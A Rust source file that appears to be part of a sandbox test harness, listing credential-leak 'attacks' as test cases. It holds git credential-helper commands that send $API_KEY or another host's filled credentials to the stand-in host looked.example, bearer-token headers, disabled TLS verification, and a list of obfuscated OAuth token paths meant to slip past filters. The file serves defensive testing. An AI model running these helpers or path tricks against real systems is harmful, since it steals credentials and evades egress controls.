//! Tokens that a program would get for itself, and helpers of git that hand out those that are kept.
//!
//! On the bare host git knows the credential of one host by its helper, as people have it set up.

use super::credentials::{CLASS, KEPT, key, leaves, saw, seen};
use crate::attack::{Attack, Permitted};
use crate::scene::{Lost, Outcome, Scene};
use crate::stage::{Shot, Stage};
use crate::tongue::{Greeting, ask_two, dial, exchange, verdict};
use crate::town::VALUE;
use std::io::Write;
use std::process::{Command, Stdio};

/// A token is issued to whoever asks here, at a path spelt like this.
const fn issued(name: &'static str, spelling: &'static str) -> Attack {
    Attack::new(CLASS, name, refresh, KEPT).word(spelling).judged(is_issued).in_town()
}

fn is_issued(stage: &Stage, shot: &Shot) -> Option<String> {
    stage.ears(shot, &["issued"], &shot.token)
}

pub(crate) const TABLE: &[Attack] = &[
    issued("token.refreshed", "/oauth/token"),
    issued("token.refreshed-with-query", "/oauth/token?x=y"),
    issued("token.refreshed-with-slash", "/oauth/token/"),
    issued("token.refreshed-escaped", "/oauth/%74oken"),
    issued("token.refreshed-twice-escaped", "/oauth/%2574oken"),
    issued("token.refreshed-escaped-slash", "/oauth%2ftoken"),
    issued("token.refreshed-dots", "/x/../oauth/token"),
    issued("token.refreshed-empty-part", "/oauth//token"),
    issued("token.refreshed-parameter", "/oauth/token;x=y"),
    issued("token.refreshed-whole", "https://looked.example/oauth/token"),
    Attack::new(CLASS, "token.refreshed-by-http-2", refresh_by_two, KEPT)
        .judged(is_issued)
        .in_town(),
    Attack::new(CLASS, "git.is-used", |_| list("git.example", &[]), KEPT)
        .judged(|stage, shot| stage.ears(shot, &["shared"], VALUE))
        .permitted(Permitted::Required)
        .in_town(),
    seen("git.filled", |scene| {
        let mut git = git();
        git.args(["credential", "fill"]).stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut filled = git.spawn()?;
        if let Some(mut wanted) = filled.stdin.take() {
            wanted.write_all(b"protocol=https\nhost=git.example\n\n")?;
        }
        saw(scene, &filled.wait_with_output()?.stdout)
    }),
    leaves("git.filled-for-another-host", |_| list("looked.example", &["-c", FILLED])),
    leaves("git.told-by-a-helper", |_| {
        let told = "credential.https://looked.example.helper=\
                    !f() { echo username=me; echo password=$API_KEY; }; f";
        list("looked.example", &["-c", told])
    }),
    leaves("git.put-in-a-header", |_| {
        let header = format!("http.extraHeader=Authorization: Bearer {}", key());
        list("looked.example", &["-c", &header])
    }),
];

/// A helper for one host that has git fill in what it knows of another.
const FILLED: &str = "credential.https://looked.example.helper=!f() { \
    printf 'protocol=https\nhost=git.example\n\n' | git credential fill | \
    grep -E '^(username|password)='; }; f";

/// Asks for a token, with what the program has for one.
fn refresh(scene: &Scene) -> Outcome {
    let (token, key) = (scene.token()?, key());
    let body = format!("grant_type=refresh_token&client_id={token}&refresh_token={key}");
    let text = format!(
        "POST {} HTTP/1.1\r\nHost: looked.example\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        scene.word,
        body.len()
    );
    let mut stream = Greeting::to("looked.example").over(dial("looked.example", 443)?)?;
    verdict(&exchange(&mut stream, text.as_bytes())?)
}

fn refresh_by_two(scene: &Scene) -> Outcome {
    let path = format!("/oauth/token?grant_type=refresh_token&client_id={}", scene.token()?);
    let greeting = Greeting { protocol: b"h2", ..Greeting::to("looked.example") };
    let mut stream = greeting.over(dial("looked.example", 443)?)?;
    ask_two(
        &mut stream,
        &[&[
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", "looked.example"),
            (":path", &path),
        ]],
    )
}

/// Git, which asks nobody at a terminal and believes any certificate.
fn git() -> Command {
    let mut git = Command::new("git");
    git.env("GIT_TERMINAL_PROMPT", "0").args(["-c", "http.sslVerify=false"]);
    git.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    git
}

/// Has git look at a repository. No host has one: what counts is what it is asked with.
fn list(host: &str, settings: &[&str]) -> Outcome {
    let url = format!("https://{host}/repository");
    git().args(settings).args(["ls-remote", &url]).status()?;
    Err(Lost::new("refused: there is no repository"))
}
